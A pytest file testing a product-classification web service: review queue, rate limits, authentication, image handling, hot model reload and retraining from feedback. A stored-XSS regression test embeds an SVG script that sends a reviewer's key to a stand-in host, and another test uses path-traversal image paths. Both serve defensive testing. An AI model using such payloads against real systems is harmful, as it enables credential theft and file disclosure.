"""The prediction service in-process (FastAPI TestClient): classify, review queue, feedback, limits, security,
versions and hot reload, metrics, retraining from feedback."""

from __future__ import annotations

import json
import logging
import shutil
import threading
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest

pytest.importorskip("fastapi")
pytest.importorskip("httpx")

from fastapi.testclient import TestClient  # noqa: E402

import taxonomist as tx  # noqa: E402
from taxonomist.serving import ReviewStore, ServeSettings, create_app  # noqa: E402

KEY = "test-key-123"
AUTH = {"Authorization": f"Bearer {KEY}"}


@pytest.fixture
def store_dir(saved_sample_model: Path, tmp_path: Path) -> Path:
    store = tmp_path / "models"
    shutil.copytree(saved_sample_model, store / "v0001")
    return store


def make_client(store_dir: Path, tmp_path: Path, raise_server_exceptions: bool = True, **overrides: Any) -> TestClient:
    settings = ServeSettings(**{"model_dir": store_dir, "review_db": tmp_path / "review.db", "api_keys": [KEY],
                                "audit_rate": 0.0, **overrides})
    return TestClient(create_app(settings), raise_server_exceptions=raise_server_exceptions)


@pytest.fixture
def client(store_dir: Path, tmp_path: Path):
    with make_client(store_dir, tmp_path, review_threshold=0.9) as c:
        yield c


def classify(c: TestClient, *titles: str, **extra: Any) -> dict[str, Any]:
    r = c.post("/v1/classify", json={"products": [{"id": str(i), "title": t} for i, t in enumerate(titles)], **extra})
    assert r.status_code == 200, r.text
    return r.json()


def test_classify_one_and_batch(client: TestClient) -> None:
    one = client.post("/v1/classify", json={"product": {"title": "Nike Men Running Shoes"}, "top_k": 2}).json()
    res = one["results"][0]
    assert one["model_version"] == res["model_version"] == "v0001"
    assert res["path"][0] == "Footwear" and res["category"] == " > ".join(res["path"])
    assert len(res["alternatives"]) == 2 and len(res["confidence"]) == len(res["path"])
    assert res["confidence"] == sorted(res["confidence"], reverse=True)
    batch = classify(client, "Titan Women Gold Analog Watch", "Puma Kids Yellow T-shirt", "zzz qqq")
    assert [r["id"] for r in batch["results"]] == ["0", "1", "2"]
    assert batch["results"][0]["path"][0] == "Accessories"
    # the same product alone and in a batch gets the same answer (micro-batching changes nothing)
    alone = classify(client, "Titan Women Gold Analog Watch")["results"][0]
    assert alone["leaf"] == batch["results"][0]["leaf"]
    assert alone["leaf_confidence"] == pytest.approx(batch["results"][0]["leaf_confidence"])


def test_classify_answers_the_attributes_asked_for(client: TestClient) -> None:
    """issue 37: the API answers colour, gender and age group with the category, in Merchant Center values."""
    r = client.post("/v1/classify", json={"products": [{"title": "Titan Women Gold Analog Watch"},
                                                       {"title": "zzz qqq"}],
                                          "attributes": ["color", "gender", "age_group"]})
    assert r.status_code == 200, r.text
    first, second = r.json()["results"]
    assert first["attributes"] == {"color": {"value": "Gold", "confidence": 0.95},
                                   "gender": {"value": "female", "confidence": 0.95},
                                   "age_group": {"value": "adult", "confidence": 0.95}}
    assert "attributes" not in second  # nothing in its words
    assert "attributes" not in classify(client, "Titan Women Gold Analog Watch")["results"][0]  # not asked
    bad = client.post("/v1/classify", json={"product": {"title": "a watch"}, "attributes": ["flavour"]})
    assert bad.status_code == 422


def test_the_api_docs_work_offline(client: TestClient) -> None:
    """/docs loaded Swagger UI from a CDN: blank without internet. Its assets come from an installed package."""
    page = client.get("/docs")
    assert page.status_code == 200
    assert "cdn.jsdelivr.net" not in page.text and "unpkg.com" not in page.text
    for asset in ("swagger-ui-bundle.js", "swagger-ui.css"):
        url = next(u for u in page.text.split('"') if u.endswith(asset))
        r = client.get(url)
        assert r.status_code == 200 and len(r.content) > 10_000, url
    redoc = client.get("/redoc")
    assert redoc.status_code == 200 and "cdn.jsdelivr.net" not in redoc.text


def test_concurrent_requests_are_micro_batched(store_dir: Path, tmp_path: Path) -> None:
    titles = ["Nike Men Running Shoes", "Titan Women Gold Analog Watch", "Lakme Absolute Matte Lipstick",
              "Wildcraft Unisex Blue Backpack"] * 8
    with make_client(store_dir, tmp_path, microbatch_window_ms=50.0) as c:
        results: dict[int, str] = {}

        def one(i: int) -> None:
            # keyed: 32 requests at once from one keyless client would meet its concurrency limit
            results[i] = c.post("/v1/classify", json={"product": {"title": titles[i]}},
                                headers=AUTH).json()["results"][0]["leaf"]

        threads = [threading.Thread(target=one, args=(i,)) for i in range(len(titles))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        metrics = c.get("/metrics").text
    model = tx.load(store_dir / "v0001")
    assert [results[i] for i in range(len(titles))] == list(model.predict(titles))
    count = float(next(line.split()[-1] for line in metrics.splitlines()
                       if line.startswith("taxonomist_model_batch_products_count")))
    assert count < len(titles)  # fewer model calls than requests


def test_low_confidence_goes_to_review_ordered_by_margin(client: TestClient) -> None:
    out = classify(client, "Nike Men Running Shoes", "blue thing", "something else entirely", "gift")
    queued = [r for r in out["results"] if r["needs_review"]]
    assert queued and all(r["review_id"] for r in queued)
    assert all(r["leaf_confidence"] < 0.9 for r in queued)
    items = client.get("/v1/review", headers=AUTH).json()
    assert {i["id"] for i in items} == {r["review_id"] for r in queued}
    # most uncertain first; titles of no known word ("something else entirely") after all the others
    keys = [(i["reason"] == "unrecognised", i["margin"]) for i in items]
    assert keys == sorted(keys)
    assert items[0]["status"] == "pending" and items[0]["reason"] == "low_confidence"


def test_audit_sample_of_confident_predictions(store_dir: Path, tmp_path: Path) -> None:
    with make_client(store_dir, tmp_path, review_threshold=0.0, audit_rate=1.0) as c:
        out = classify(c, "Nike Men Running Shoes")
        assert out["results"][0]["needs_review"]
        assert c.get("/v1/review", headers=AUTH).json()[0]["reason"] == "audit"


def test_the_review_queue_is_read_with_a_key_and_cannot_be_flooded(store_dir: Path, tmp_path: Path) -> None:
    """Regression: /v1/classify needs no key by default yet queued every low-confidence product (with up to 1 MB
    of photo each; 148 MB in 5 s from one client), and anyone could read the queue. Now: reads need a key,
    identical products are queued once, each client queues at most a quota per minute, the queue has a size
    cap, and large photos are not stored."""
    import base64

    big_photo = base64.b64encode(b"\xff\xd8\xff\xe0" + b"0" * 150_000).decode()
    with make_client(store_dir, tmp_path, review_threshold=1.0, review_quota_per_minute=4, review_max_pending=6,
                     review_max_image_bytes=100_000) as c:
        r1 = classify(c, "blue thing")["results"][0]
        r2 = classify(c, "blue thing")["results"][0]
        assert r1["needs_review"] and r1["review_id"] == r2["review_id"]  # one item for one product
        for path in ("/v1/review", f"/v1/review/{r1['review_id']}", "/v1/review-stats"):
            assert c.get(path).status_code == 401, path
            assert c.get(path, headers=AUTH).status_code == 200, path
        out = classify(c, *[f"thing {i}" for i in range(6)])["results"]
        assert [r.get("review_id") is not None for r in out] == [True] * 3 + [False] * 3  # 4 per minute per client
        assert all(r["needs_review"] for r in out)  # still flagged, only not stored
        photo = c.post("/v1/classify", json={"product": {"title": "x", "image_base64": big_photo}},
                       headers={"X-Forwarded-For": "10.0.0.9"})  # (not trusted: the same client)
        assert photo.json()["results"][0].get("review_id") is None
        stats = c.get("/v1/review-stats", headers=AUTH).json()
        assert stats["pending"] == 4
        assert "taxonomist_review_not_queued_total" in c.get("/metrics").text
    with make_client(store_dir, tmp_path / "2", review_threshold=1.0, review_max_pending=2,
                     review_max_image_bytes=100_000) as c:
        stored = c.post("/v1/classify", json={"product": {"title": "a thing", "image_base64": big_photo}}).json()["results"][0]
        item = c.get(f"/v1/review/{stored['review_id']}", headers=AUTH).json()
        assert "image_base64" not in item["product"] and item["product"]["image_dropped"] == "over 100,000 bytes"
        out = classify(c, "b thing", "c thing")["results"]
        assert out[0].get("review_id") is not None and out[1].get("review_id") is None  # the cap of 2 pending


def test_read_requires_key_also_covers_metrics(store_dir: Path, tmp_path: Path) -> None:
    with make_client(store_dir, tmp_path, read_requires_key=True) as c:
        assert c.get("/metrics").status_code == 401  # (it stayed open)
        assert c.get("/metrics", headers=AUTH).status_code == 200
        assert c.get("/healthz").status_code == 200  # probes need no key


def test_keyword_stuffed_titles_go_to_review_with_their_reason(store_dir: Path, tmp_path: Path) -> None:
    with make_client(store_dir, tmp_path, review_threshold=0.0) as c:
        out = classify(c, "Puma Men Coupe Black Sandal watch wallet handbag belt sunglasses",
                       "Nike Men Running Shoes")["results"]
        assert out[0]["needs_review"] and out[0]["review_reason"] == "keyword_stuffing" and out[0]["review_id"]
        assert not out[1]["needs_review"] and "review_reason" not in out[1]
        assert c.get(f"/v1/review/{out[0]['review_id']}", headers=AUTH).json()["reason"] == "keyword_stuffing"


def test_nonsense_titles_queue_behind_real_products(store_dir: Path, tmp_path: Path) -> None:
    """A title with no word the model knows has a margin of ~0, so it sorted first and pushed real uncertain
    products off the reviewers' page; it is queued as unrecognised, after them."""
    with make_client(store_dir, tmp_path, review_threshold=1.0) as c:
        junk = classify(c, "xqzv wrrk plmf", "zzkq vvbn")["results"]
        real = classify(c, "Nike Men Running Shoes")["results"]
        assert [r["review_reason"] for r in junk] == ["unrecognised", "unrecognised"]
        assert real[0]["review_reason"] == "low_confidence"
        page = c.get("/v1/review", headers=AUTH).json()
        assert [i["product"]["title"] for i in page][0] == "Nike Men Running Shoes"
        assert [i["reason"] for i in page][-2:] == ["unrecognised", "unrecognised"]


def test_a_reviewer_sees_and_corrects_the_attributes_with_the_category(store_dir: Path, tmp_path: Path) -> None:
    """issue 37: an item queued with the attributes asked for shows them; the decision keeps them as the
    reviewer left them (in the item and its feedback); only known attributes and values the feed accepts."""
    with make_client(store_dir, tmp_path, review_threshold=1.0) as c:
        out = classify(c, "Nike Women Black Running Shoes", attributes=["color", "gender"])["results"][0]
        rid = out["review_id"]
        item = c.get(f"/v1/review/{rid}", headers=AUTH).json()
        assert item["prediction"]["attributes"]["color"]["value"] == "Black"
        assert c.get("/v1/attributes", headers=AUTH).json()["gender"] == ["male", "female", "unisex"]
        for bad in ({"colour": "Red"}, {"color": "Crimson"}):
            r = c.post(f"/v1/review/{rid}", json={"attributes": bad}, headers=AUTH)
            assert r.status_code == 422 and "expected" in r.json()["detail"]
        done = c.post(f"/v1/review/{rid}", json={"attributes": {"color": "Red"}}, headers=AUTH).json()
        assert done["status"] == "accepted" and done["decided_attributes"] == {"color": "Red", "gender": "female"}
        svc = c.app.state.service  # type: ignore[attr-defined]
        fb = [f for f in svc.desk.review_store().feedback() if f["review_id"] == rid]
        assert fb[0]["attributes"] == {"color": "Red", "gender": "female"}
        # a second decision revises the first; removing a value leaves it out; undo forgets it
        again = c.post(f"/v1/review/{rid}", json={"attributes": {"gender": ""}}, headers=AUTH).json()
        assert again["decided_attributes"] == {"color": "Black"}
        assert c.post(f"/v1/review/{rid}/undo", headers=AUTH).json()["decided_attributes"] is None


def test_personal_data_never_reaches_the_review_store(store_dir: Path, tmp_path: Path) -> None:
    with make_client(store_dir, tmp_path, review_threshold=1.0) as c:
        r = c.post("/v1/classify", json={"product": {"title": "blue thing call 13812345678",
                                                     "description": "mail jo@example.com, order #A1234567",
                                                     "attributes": {"ship": "221B Baker Street"}}})
        item = c.get(f"/v1/review/{r.json()['results'][0]['review_id']}", headers=AUTH).json()["product"]
        assert item["title"] == "blue thing call <phone>"
        assert item["description"] == "mail <email>, order <order>" and item["attributes"]["ship"] == "<address>"
        fb = c.post("/v1/feedback", json={"product": {"title": "tee for jo@example.com"},
                                          "category": "Apparel > Topwear > Tshirts"}, headers=AUTH)
        assert fb.status_code == 201
    store = ReviewStore(tmp_path / "review.db")
    assert store.feedback()[-1]["product"]["title"] == "tee for <email>"
    store.close()


def test_review_purge_deletes_what_is_older_than_an_age(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from .test_bad_inputs import run_cli

    store = ReviewStore(tmp_path / "r.db")
    item = {"product": {"title": "old"}, "prediction": {}, "category": "A > B", "confidence": 0.1, "margin": 0.0,
            "reason": "low_confidence", "model_version": "v0001"}
    old_id, = store.enqueue([item])
    store.decide(old_id, None)
    store.add_feedback({"title": "old api"}, "A > B")
    with store._tx() as db:  # a hundred days ago
        db.execute("UPDATE review SET created = created - 8640000")
        db.execute("UPDATE feedback SET created = created - 8640000")
    store.enqueue([{**item, "product": {"title": "new"}}])
    served = {"model_version": "v0001", "title": "old", "leaf": "A > B", "confidence": 0.9, "backed_off": False,
              "unknown_share": 0.0, "brand": None}
    store.log_served([{**served, "created": time.time() - 8640000}, {**served, "created": time.time()}])
    store.close()
    code, out = run_cli(["review", "purge", str(tmp_path / "r.db"), "--older-than", "90d"], capsys, monkeypatch)
    assert code == 0 and "deleted 1 review items, 2 feedback rows and 1 served-prediction records" in out
    store = ReviewStore(tmp_path / "r.db")
    assert [i["product"]["title"] for i in store.pending()] == ["new"] and store.feedback() == []
    store.close()
    code, out = run_cli(["review", "purge", str(tmp_path / "r.db"), "--older-than", "soon"], capsys, monkeypatch)
    assert code == 1 and "expected an age like 90d" in out


def test_review_decisions_need_a_key_and_a_real_leaf(client: TestClient, tmp_path: Path) -> None:
    classify(client, "blue thing", "gift")
    first, second = client.get("/v1/review", headers=AUTH).json()[:2]
    assert client.post(f"/v1/review/{first['id']}", json={}).status_code == 401
    assert client.post(f"/v1/review/{first['id']}", json={}, headers={"Authorization": "Bearer wrong"}).status_code == 401
    bad = client.post(f"/v1/review/{first['id']}", json={"category": "Apparel > Nope"}, headers=AUTH)
    assert bad.status_code == 422 and "not in the taxonomy" in bad.json()["detail"]
    inner = client.post(f"/v1/review/{first['id']}", json={"category": "Apparel > Topwear"}, headers=AUTH)
    assert inner.status_code == 422 and "not a leaf" in inner.json()["detail"]
    assert client.post("/v1/review/999999", json={}, headers=AUTH).status_code == 404
    # found by schemathesis: an id beyond SQLite's integers was a 500
    assert client.get(f"/v1/review/{2**70}/image", headers=AUTH).status_code == 422
    assert client.get("/v1/review/0", headers=AUTH).status_code == 422
    assert client.get("/v1/review", params={"offset": 2**64}, headers=AUTH).status_code == 422  # also found by schemathesis
    accepted = client.post(f"/v1/review/{first['id']}", json={}, headers=AUTH).json()
    assert accepted["status"] == "accepted" and accepted["decided_category"] == first["category"]
    corrected = client.post(f"/v1/review/{second['id']}", json={"category": "Apparel > Topwear > Tshirts",
                                                               "reviewer": "ana"}, headers=AUTH).json()
    assert corrected["status"] == "corrected"
    # a second decision on the same item revises it: still one feedback row per item (it made 2 more rows)
    again = client.post(f"/v1/review/{second['id']}", json={"category": "Apparel > Topwear > Tshirts"}, headers=AUTH)
    assert again.status_code == 200 and again.json()["status"] == "corrected"
    assert {i["id"] for i in client.get("/v1/review", headers=AUTH).json()}.isdisjoint({first["id"], second["id"]})
    fb = client.post("/v1/feedback", json={"product": {"id": "p9", "title": "Red cotton tee"},
                                           "category": "Apparel > Topwear > Tshirts"}, headers=AUTH)
    assert fb.status_code == 201
    assert client.post("/v1/feedback", json={"product": {"title": "x"}, "category": "Apparel > Topwear > Tshirts"}).status_code == 401
    store = ReviewStore(tmp_path / "review.db")
    rows = store.feedback()
    store.close()
    assert [(r["source"], r["category"]) for r in rows] == [
        ("review", first["category"]), ("review", "Apparel > Topwear > Tshirts"), ("api", "Apparel > Topwear > Tshirts")]
    assert rows[2]["product"] == {"id": "p9", "title": "Red cotton tee"}
    assert client.get("/v1/review-stats", headers=AUTH).json() == {"accepted": 1, "corrected": 1, "feedback": 3}


def test_the_review_page_cannot_be_framed(client: TestClient) -> None:
    csp = client.get("/review").headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp
    assert client.get("/review").headers["x-frame-options"] == "DENY"


def test_limits_answer_413_and_422(store_dir: Path, tmp_path: Path) -> None:
    with make_client(store_dir, tmp_path, max_batch=4, max_body_bytes=4096, max_text_chars=100) as c:
        r = c.post("/v1/classify", json={"products": [{"title": f"t{i}"} for i in range(5)]})
        assert r.status_code == 413 and "limit of 4" in r.json()["detail"]
        r = c.post("/v1/classify", content=json.dumps({"product": {"title": "x" * 5000}}),
                   headers={"Content-Type": "application/json"})
        assert r.status_code == 413 and "bytes" in r.json()["detail"]

        def chunks():  # no Content-Length: counted while streaming
            yield b'{"product": {"title": "'
            for _ in range(10):
                yield b"y" * 1000
            yield b'"}}'

        r = c.post("/v1/classify", content=chunks(), headers={"Content-Type": "application/json"})
        assert r.status_code == 413
        r = c.post("/v1/classify", json={"product": {"title": "x" * 101}})
        assert r.status_code == 422 and "over the limit of 100" in r.json()["detail"]
        assert c.post("/v1/classify", json={"product": {"title": ""}}).status_code == 422
        assert c.post("/v1/classify", json={"products": []}).status_code == 422
        assert c.post("/v1/classify", json={"product": {"title": "a"}, "products": [{"title": "b"}]}).status_code == 422
        assert c.post("/v1/classify", content=b"{not json", headers={"Content-Type": "application/json"}).status_code == 422
        # a lone surrogate is valid JSON but not Unicode text: 422, not a 500 while encoding the answer (fuzzing)
        r = c.post("/v1/classify", content=b'{"product": {"title": "bad \\ud800 title"}}',
                   headers={"Content-Type": "application/json"})
        assert r.status_code == 422 and "unicode" in r.text


def test_image_paths_cannot_leave_the_image_root(store_dir: Path, tmp_path: Path) -> None:
    root = tmp_path / "images"
    root.mkdir()
    (root / "shoe.jpg").write_bytes(b"\xff\xd8\xff\xe0" + b"0" * 100)
    (tmp_path / "secret.jpg").write_bytes(b"\xff\xd8\xff\xe0secret")
    (root / "link.jpg").symlink_to(tmp_path / "secret.jpg")
    with make_client(store_dir, tmp_path, image_root=root, audit_rate=1.0) as c:
        ok = c.post("/v1/classify", json={"product": {"title": "Nike shoes", "image": "shoe.jpg"}})
        assert ok.status_code == 200
        rid = ok.json()["results"][0]["review_id"]
        img = c.get(f"/v1/review/{rid}/image", headers=AUTH)
        assert img.status_code == 200 and img.headers["content-type"] == "image/jpeg"
        for bad in ("../secret.jpg", str(tmp_path / "secret.jpg"), "link.jpg", "a/../../secret.jpg"):
            r = c.post("/v1/classify", json={"product": {"title": "Nike shoes", "image": bad}})
            assert r.status_code == 400, bad
            assert "outside the image root" in r.json()["detail"]
            assert str(root.resolve()) not in r.json()["detail"]  # issue 34 row 10: no server paths in answers
        missing = c.post("/v1/classify", json={"product": {"title": "x", "image": "missing.jpg"}})
        assert missing.status_code == 400 and str(root.resolve()) not in missing.json()["detail"]
        for odd in ("a\x00b.jpg", "x" * 5000 + ".jpg"):  # found by schemathesis: these were 500s
            assert c.post("/v1/classify", json={"product": {"title": "x", "image": odd}}).status_code == 400
        assert c.post("/v1/classify", json={"product": {"title": "x", "image_base64": "%%%"}}).status_code == 400
        big = "A" * 2_000_000
        assert c.post("/v1/classify", json={"product": {"title": "x", "image_base64": big}}).status_code in (400, 413)


def test_review_images_are_only_sniffed_raster_types_never_svg(store_dir: Path, tmp_path: Path) -> None:
    """Regression (stored XSS): with an .svg in the image root, a product sent with image="logo.svg" and an
    SVG carrying <script> as image_base64 was served back to reviewers as image/svg+xml (type guessed from the
    file name) and the script could read the reviewer's key."""
    import base64

    root = tmp_path / "images"
    root.mkdir()
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+localStorage.key)</script></svg>'
    (root / "logo.svg").write_bytes(svg)
    (root / "shoe.jpg").write_bytes(b"\xff\xd8\xff\xe0" + b"0" * 100)
    with make_client(store_dir, tmp_path, image_root=root, audit_rate=1.0) as c:
        for product in ({"title": "x", "image": "logo.svg", "image_base64": base64.b64encode(svg).decode()},
                        {"title": "x", "image": "logo.svg"}):
            r = c.post("/v1/classify", json={"product": product})
            if r.status_code != 200:  # refused at the door is as good
                continue
            rid = r.json()["results"][0]["review_id"]
            img = c.get(f"/v1/review/{rid}/image", headers=AUTH)
            assert img.status_code == 415 and "svg" not in img.headers.get("content-type", "")
        ok = c.post("/v1/classify", json={"product": {"title": "Nike shoes", "image": "shoe.jpg"}})
        img = c.get(f"/v1/review/{ok.json()['results'][0]['review_id']}/image", headers=AUTH)
        assert img.status_code == 200 and img.headers["content-type"] == "image/jpeg"
        assert img.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in img.headers["content-security-policy"] and "default-src 'none'" in img.headers["content-security-policy"]


def test_errors_are_json_without_stack_traces(store_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with make_client(store_dir, tmp_path, raise_server_exceptions=False) as c:
        svc = c.app.state.service  # type: ignore[attr-defined]

        def boom(*a: Any, **k: Any) -> Any:
            raise RuntimeError("secret internals jo@example.com")

        monkeypatch.setattr(svc.inference.registry.current.classifier, "predict_products", boom)
        r = c.post("/v1/classify", json={"product": {"title": "x"}})
        assert r.status_code == 500
        body = r.json()
        assert body["detail"] == "internal server error" and "error_id" in body
        assert "Traceback" not in r.text and "secret" not in r.text


def test_health_model_taxonomy_metrics(client: TestClient) -> None:
    assert client.get("/healthz").json() == {"status": "ok"}
    assert client.get("/readyz").json()["model_version"] == "v0001"
    m = client.get("/v1/model").json()
    assert m["version"] == "v0001" and m["tier"] == "sparse" and m["versions"] == ["v0001"] and m["n_categories"] > 10
    tree = client.get("/v1/taxonomy").json()
    assert tree["n_leaves"] > 10 and {n["name"] for n in tree["tree"]} >= {"Apparel", "Footwear"}
    found = client.get("/v1/taxonomy", params={"q": "watch"}).json()["matches"]
    assert any(m["path"] == "Accessories > Watches > Watches" and m["leaf"] for m in found)
    classify(client, "Nike Men Running Shoes", "blue thing")
    text = client.get("/metrics").text
    for name in ("taxonomist_request_duration_seconds_bucket", "taxonomist_request_products_bucket",
                 'taxonomist_predictions_total{top_level="Footwear"}', "taxonomist_low_confidence_ratio",
                 "taxonomist_review_queue_depth", 'taxonomist_model_info{tier="sparse",version="v0001"}'):
        assert name in text, name
    assert "text/html" in client.get("/review").headers["content-type"]
    assert client.get("/openapi.json").json()["info"]["title"] == "taxonomist"


def test_read_endpoints_can_require_a_key(store_dir: Path, tmp_path: Path) -> None:
    with make_client(store_dir, tmp_path, read_requires_key=True) as c:
        assert c.post("/v1/classify", json={"product": {"title": "x"}}).status_code == 401
        assert c.post("/v1/classify", json={"product": {"title": "x"}}, headers=AUTH).status_code == 200
        assert c.get("/healthz").status_code == 200


def test_no_configured_key_refuses_every_write(store_dir: Path, tmp_path: Path) -> None:
    settings = ServeSettings(model_dir=store_dir, review_db=tmp_path / "r.db")
    with TestClient(create_app(settings)) as c:
        r = c.post("/v1/admin/reload", json={}, headers={"Authorization": "Bearer "})
        assert r.status_code == 401 and "TAXONOMIST_API_KEYS" in r.json()["detail"]


@pytest.mark.parametrize("keys", [[""], ["  "], ["good-key", ""]])
def test_an_empty_api_key_is_refused_at_start_up(keys: list[str], store_dir: Path, tmp_path: Path) -> None:
    """Regression: `taxonomist serve --api-key "$KEY"` with KEY unset passed [""], which counted as a configured
    key and matched a request without a header (b"" == b""): writes open to anyone."""
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="empty API key"):
        ServeSettings(model_dir=store_dir, review_db=tmp_path / "r.db", api_keys=keys)


def test_serve_refuses_an_empty_api_key(store_dir: Path, capsys: pytest.CaptureFixture[str],
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from .test_bad_inputs import run_cli

    code, out = run_cli(["serve", str(store_dir), "--api-key", ""], capsys, monkeypatch)
    assert code != 0 and "empty API key" in out and "Traceback" not in out


def test_serve_on_a_taken_port_fails_with_exit_code_1_before_its_banner(store_dir: Path, tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str],
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    from .test_bad_inputs import run_cli

    taken = socket.socket()
    taken.bind(("127.0.0.1", 0))
    taken.listen()
    port = taken.getsockname()[1]
    try:
        code, out = run_cli(["serve", str(store_dir), "--port", str(port), "--api-key", "k",
                             "--review-db", str(tmp_path / "r.db")], capsys, monkeypatch)
    finally:
        taken.close()
    assert code == 1, out
    assert f"cannot listen on 127.0.0.1:{port}" in out and "review page" not in out


def test_a_restart_serves_the_newest_version_that_loads(store_dir: Path, tmp_path: Path,
                                                        caplog: pytest.LogCaptureFixture) -> None:
    """Regression: with a damaged newest version the service failed to start ("Application startup failed")
    although hot reload refuses the same bundle and keeps serving."""
    shutil.copytree(store_dir / "v0001", store_dir / "v0002")
    weights = store_dir / "v0002" / "weights.npz"
    weights.write_bytes(weights.read_bytes()[:-10] + b"0123456789")
    with caplog.at_level(logging.WARNING, logger="taxonomist"), make_client(store_dir, tmp_path) as c:
        info = c.get("/v1/model").json()
        assert info["version"] == "v0001" and info["skipped_versions"] == ["v0002"]
        assert c.get("/readyz").status_code == 200
    assert any("v0002" in r.getMessage() and "skipped" in r.getMessage() for r in caplog.records)
    # a version asked for by name is not replaced by another
    with pytest.raises(Exception, match="SHA-256"), make_client(store_dir, tmp_path, model_version="v0002"):
        pass


def test_settings_from_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("TAXONOMIST_API_KEYS", "a, b")
    monkeypatch.setenv("TAXONOMIST_MAX_BATCH", "7")
    monkeypatch.setenv("TAXONOMIST_MODEL_DIR", str(tmp_path))
    s = ServeSettings()
    assert s.api_keys == ["a", "b"] and s.max_batch == 7 and s.model_dir == tmp_path


def test_hot_reload_switches_versions_and_refuses_damaged_bundles(client: TestClient, store_dir: Path) -> None:
    assert client.post("/v1/admin/reload", json={}).status_code == 401
    shutil.copytree(store_dir / "v0001", store_dir / "v0002")
    r = client.post("/v1/admin/reload", json={}, headers=AUTH)
    assert r.json() == {"previous_version": "v0001", "version": "v0002"}
    assert classify(client, "Nike Men Running Shoes")["model_version"] == "v0002"
    shutil.copytree(store_dir / "v0001", store_dir / "v0003")
    weights = store_dir / "v0003" / "weights.npz"
    weights.write_bytes(weights.read_bytes()[:-10] + b"0123456789")  # damaged after saving
    r = client.post("/v1/admin/reload", json={}, headers=AUTH)
    assert r.status_code == 409 and "SHA-256" in r.json()["detail"] and "still serving version v0002" in r.json()["detail"]
    assert classify(client, "Nike Men Running Shoes")["model_version"] == "v0002"
    r = client.post("/v1/admin/reload", json={"version": "v0001"}, headers=AUTH)
    assert r.json()["version"] == "v0001"
    assert client.post("/v1/admin/reload", json={"version": "v9"}, headers=AUTH).status_code == 409
    assert 'taxonomist_model_reloads_total{outcome="refused"} 2.0' in client.get("/metrics").text


def test_a_reload_on_one_server_reaches_the_others_sharing_its_store(store_dir: Path, tmp_path: Path) -> None:
    """issue 38: two servers on one review store and one model store; a reload on one is followed by the other,
    and a server started later serves the version the reload recorded, not the newest."""
    shutil.copytree(store_dir / "v0001", store_dir / "v0002")
    with make_client(store_dir, tmp_path, model_poll_s=0.1) as a, make_client(store_dir, tmp_path, model_poll_s=0.1) as b:
        assert classify(b, "Nike Men Running Shoes")["model_version"] == "v0002"
        assert a.post("/v1/admin/reload", json={"version": "v0001"}, headers=AUTH).json()["version"] == "v0001"
        deadline = time.monotonic() + 10
        while classify(b, "Nike Men Running Shoes")["model_version"] != "v0001" and time.monotonic() < deadline:
            time.sleep(0.1)
        assert classify(b, "Nike Men Running Shoes")["model_version"] == "v0001"
        assert 'taxonomist_model_reloads_total{outcome="followed"} 1.0' in b.get("/metrics").text
    with make_client(store_dir, tmp_path) as later:
        assert classify(later, "Nike Men Running Shoes")["model_version"] == "v0001"
    with make_client(store_dir, tmp_path, model_version="v0002") as pinned:  # a pinned version stays pinned
        assert classify(pinned, "Nike Men Running Shoes")["model_version"] == "v0002"


def test_hot_reload_under_load_fails_no_request(client: TestClient, store_dir: Path) -> None:
    shutil.copytree(store_dir / "v0001", store_dir / "v0002")
    errors: list[str] = []
    versions: set[str] = set()
    stop = threading.Event()

    def load() -> None:
        while not stop.is_set():
            r = client.post("/v1/classify", json={"product": {"title": "Nike Men Running Shoes"}})
            if r.status_code != 200:
                errors.append(f"{r.status_code} {r.text}")
            else:
                versions.add(r.json()["model_version"])

    threads = [threading.Thread(target=load) for _ in range(4)]
    for t in threads:
        t.start()
    try:
        for v in ("v0002", "v0001", "v0002", "v0001"):
            assert client.post("/v1/admin/reload", json={"version": v}, headers=AUTH).status_code == 200
    finally:
        stop.set()
        for t in threads:
            t.join()
    assert errors == []
    assert versions == {"v0001", "v0002"}


def test_retrain_from_feedback(client: TestClient, store_dir: Path, tmp_path: Path,
                               sample_catalog: tx.Catalog) -> None:
    from taxonomist.retrain import retrain

    # a reviewer teaches the model a product it got wrong
    title = "Zorblax Quantum Hoodie"
    for i in range(3):
        assert client.post("/v1/feedback", json={"product": {"id": f"new{i}", "title": f"{title} {i}"},
                                                 "category": "Apparel > Topwear > Sweatshirts"}, headers=AUTH).status_code == 201
    store = ReviewStore(tmp_path / "review.db")
    items = store.feedback()
    store.close()
    result = retrain(store_dir / "v0001", items, sample_catalog, store_dir / "v0002")
    assert result.stats["added"] == 3 and result.stats["relabelled"] == 0
    assert result.new_metrics["macro_f1"] > 0.5 and "macro_f1" in result.old_metrics
    new = tx.load(store_dir / "v0002")
    assert new.metrics_["retrained_from"]["feedback"]["added"] == 3
    assert new.n_train_ > tx.load(store_dir / "v0001").n_train_
    # compared on the held-out part, then refitted on every product: none of the corrections is left out
    assert new.n_train_ == len(sample_catalog) + 3 and new.metrics_["split"]["refit"] is True
    r = client.post("/v1/admin/reload", json={}, headers=AUTH)
    assert r.json()["version"] == "v0002"
    # issue 35: a retrained version had no drift reference, so /v1/monitor said "retrain it" -- and retraining
    # never made one; it is the retrained model's answers on the held-out part
    assert new.drift_reference_ is not None and new.drift_reference_.source == "held-out"
    assert client.get("/v1/monitor").json().get("reference") == "held-out"


def test_apply_feedback_relabels_by_id_then_title() -> None:
    from taxonomist.retrain import apply_feedback

    cat = tx.Catalog.from_records([{"id": "1", "title": "Red tee", "category": "A > B"},
                                   {"id": "2", "title": "Blue jeans", "category": "A > C"}], require_labels=True)
    fb = [{"product": {"id": "1", "title": "whatever"}, "category": "A > C"},
          {"product": {"title": "blue  JEANS"}, "category": "A > B"},
          {"product": {"title": "blue jeans"}, "category": "A > D"},  # a later correction of the same product wins
          {"product": {"title": "Green socks"}, "category": "A > E"}]
    out, stats = apply_feedback(cat, fb)
